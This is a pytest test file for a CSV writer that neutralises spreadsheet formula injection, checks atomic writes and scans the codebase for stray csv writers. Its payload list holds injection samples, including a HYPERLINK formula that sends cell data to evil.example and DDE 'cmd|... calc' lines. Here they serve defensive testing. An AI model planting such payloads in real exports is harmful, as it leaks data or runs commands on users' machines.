"""The one spreadsheet-safe CSV writer: formula-like cells are neutralised, numbers stay numbers,
a file appears whole or not at all, and no module of the product writes CSV any other way."""

from __future__ import annotations

import ast
import csv
import os
from decimal import Decimal
from pathlib import Path

import pytest

from tempclock.api.services import connectors
from tempclock.plugins import Connector, safe_cell, write_csv

ROOT = Path(__file__).resolve().parents[2]

# What a spreadsheet would evaluate, as OWASP lists it, and the variants importers let through.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Payslip")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "=",
    "-",
    # other invisible characters before it, and other forms of it
    "\u2066=1+1",
    "\u2069@SUM(A1)",
    "\u180e=1+1",
    "\u00ad=1+1",
    "\u061c+1",
    "\u034f=1+1",
    "\x00=1+1",
    "\x1c=1+1",
    "\ufe66HYPERLINK(A1)",
    "\ufe62cmd|' /C calc'!A0",
    "\ufe63 2+3",
    "\ufe6bSUM(A1)",
]


def evaluated(cell: str) -> bool:
    """Would a spreadsheet read this cell, as read back from the file, as a formula?"""
    if cell[:1] in ("\t", "\r"):
        return True
    stripped = cell.lstrip(" \t\r\n\u00a0\u200b\ufeff\u3000")
    return stripped[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_cell_is_read_back_as_text_with_a_leading_quote(tmp_path, text):
    path = tmp_path / "out.csv"
    write_csv(path, ["name"], [[text]])
    with path.open(encoding="utf-8", newline="") as handle:
        (_header, (cell,)) = list(csv.reader(handle))
    assert cell == "'" + text
    assert not evaluated(cell)


@pytest.mark.parametrize("text", ["Ann Nowak", "O'Brien", "7.50", "2027-03-28", "", "Zoë",
                                  "a=b", "1+1", "(none)", "https://example.com/?a=1"])
def test_ordinary_text_is_written_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-2, -2.5, Decimal("-7.25"), 0, 40, 7.5])
def test_numbers_stay_numbers_even_when_negative(tmp_path, number):
    assert safe_cell(number) == number
    path = tmp_path / "out.csv"
    write_csv(path, ["n"], [[number]])
    assert path.read_text(encoding="utf-8").splitlines()[1] == str(number)


def test_none_is_an_empty_cell_and_other_values_are_their_text():
    assert safe_cell(None) == ""
    assert safe_cell(Path("-rf")) == "'-rf"


def test_the_header_is_neutralised_too(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["=cmd", "ok"], [])
    assert path.read_text(encoding="utf-8").splitlines() == ["'=cmd,ok"]


def test_a_write_that_fails_half_way_leaves_the_earlier_file_and_no_part_file(tmp_path):
    path = tmp_path / "payroll.csv"
    write_csv(path, ["worker"], [["Ann"]])

    def rows():
        yield ["Bob"]
        raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError, match="disk gone"):
        write_csv(path, ["worker"], rows())
    assert path.read_text(encoding="utf-8").splitlines() == ["worker", "Ann"]
    assert [p.name for p in tmp_path.iterdir()] == ["payroll.csv"]


def test_quotes_commas_and_newlines_in_a_cell_survive_the_round_trip(tmp_path):
    path = tmp_path / "out.csv"
    nasty = 'Smith, "Jo"\nline two'
    assert write_csv(path, ["name", "n"], [[nasty, 1], ["x", 2]]) == 2
    with path.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["name", "n"], [nasty, "1"], ["x", "2"]]


# --- no other way to write CSV ----------------------------------------------------------------

HELPER = "plugins/csvsafe.py"
# Files that write what *another* system would hand us (test input), never what a person opens.
FOREIGN_INPUT = {"bench/connectors.py"}


def _product_modules() -> list[Path]:
    """Every Python file of the repository but the tests (and virtualenvs, caches, builds)."""
    found = []
    for folder, subfolders, files in os.walk(ROOT):
        subfolders[:] = [name for name in subfolders if not name.startswith(".")
                         and name not in ("tests", "build", "dist", "__pycache__")
                         and not name.endswith(".egg-info")]
        found += [Path(folder, name) for name in files if name.endswith(".py")]
    return sorted(found)


def _csv_writer_calls(source: str) -> list[int]:
    """Lines where a module makes a csv writer (`csv.writer`, `DictWriter`, under any alias)."""
    tree = ast.parse(source)
    modules = {alias.asname or alias.name for node in ast.walk(tree) if isinstance(node, ast.Import)
               for alias in node.names if alias.name == "csv"}
    found = [node.lineno for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
             and node.module == "csv" and any(a.name in ("writer", "DictWriter")
                                              for a in node.names)]
    found += [node.lineno for node in ast.walk(tree)
              if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
              and isinstance(node.value, ast.Name) and node.value.id in modules]
    return found


def test_the_guard_finds_a_csv_writer_however_it_is_imported():
    assert _csv_writer_calls("import csv\ncsv.writer(f)")
    assert _csv_writer_calls("import csv as c\nc.DictWriter(f, [])")
    assert _csv_writer_calls("from csv import writer")
    assert not _csv_writer_calls("import csv\ncsv.reader(f)")


def test_no_module_writes_csv_except_through_the_shared_writer():
    modules = _product_modules()
    assert any(p.relative_to(ROOT).as_posix() == "tempclock_desktop/panels/api_logs.py"
               for p in modules)
    offenders = [f"{path.relative_to(ROOT).as_posix()}:{line}"
                 for path in modules
                 if path.relative_to(ROOT).as_posix() not in {HELPER, *FOREIGN_INPUT}
                 for line in _csv_writer_calls(path.read_text(encoding="utf-8"))]
    assert offenders == [], ("write CSV with plugins.write_csv (or context.write_csv), which "
                             f"makes cells spreadsheet-safe; found csv writers at {offenders}")


# --- through a connector's context -----------------------------------------------------------


class Roster(Connector):
    """Writes the account's workers to a CSV file through its context."""

    id = "roster-csv"
    name = "Roster"
    kind = "payroll"
    capabilities = frozenset({"export_timesheets"})

    def run(self, context):
        rows = ([w["employee_ref"], f"{w['first_name']} {w['last_name']}", -1.5]
                for w in context.workers())
        context.log(str(context.write_csv("rosters/roster.csv", ["ref", "name", "hours"], rows)))


def test_a_connector_writes_spreadsheet_safe_csv_under_its_export_folder(account, make_worker,
                                                                         tmp_path):
    make_worker(account.id, "@SUM(A1)", "Nowak", employee_ref="=1+1")
    dry = connectors.run_connector(account.id, Roster(), dry_run=True, export_dir=tmp_path)
    assert dry.status == "succeeded" and not (tmp_path / "rosters").exists()
    assert f"info: Dry run: would write 1 row to {tmp_path / 'rosters' / 'roster.csv'}" in dry.log
    run = connectors.run_connector(account.id, Roster(), export_dir=tmp_path)
    assert f"info: Wrote 1 row to {tmp_path / 'rosters' / 'roster.csv'}" in run.log
    with (tmp_path / "rosters" / "roster.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["ref", "name", "hours"],
                                            ["'=1+1", "'@SUM(A1) Nowak", "-1.5"]]
